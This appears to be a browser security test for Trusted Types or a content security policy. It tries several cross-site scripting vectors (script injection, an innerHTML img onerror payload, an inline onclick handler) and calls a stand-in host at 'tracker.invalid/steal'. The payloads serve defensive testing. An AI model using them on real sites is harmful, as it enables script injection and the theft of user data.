// What an attacker would try who can put markup or strings into the page. Trusted Types refuse some by throwing.
() => {
  const attempt = (tag, dress) => {
    const element = document.createElement(tag);
    try {
      dress(element);
    } catch {
      return;
    }
    document.body.append(element);
    element.click();
  };
  attempt("script", (script) => script.append("window.pwned = 1"));
  attempt("b", (bold) => (bold.innerHTML = "<img src=x onerror='window.pwned=1'>"));
  attempt("button", (button) => button.setAttribute("onclick", "window.pwned = 1"));
  attempt("img", (image) => (image.src = "https://tracker.invalid/pixel"));
  fetch("https://tracker.invalid/steal").catch(() => {});
};
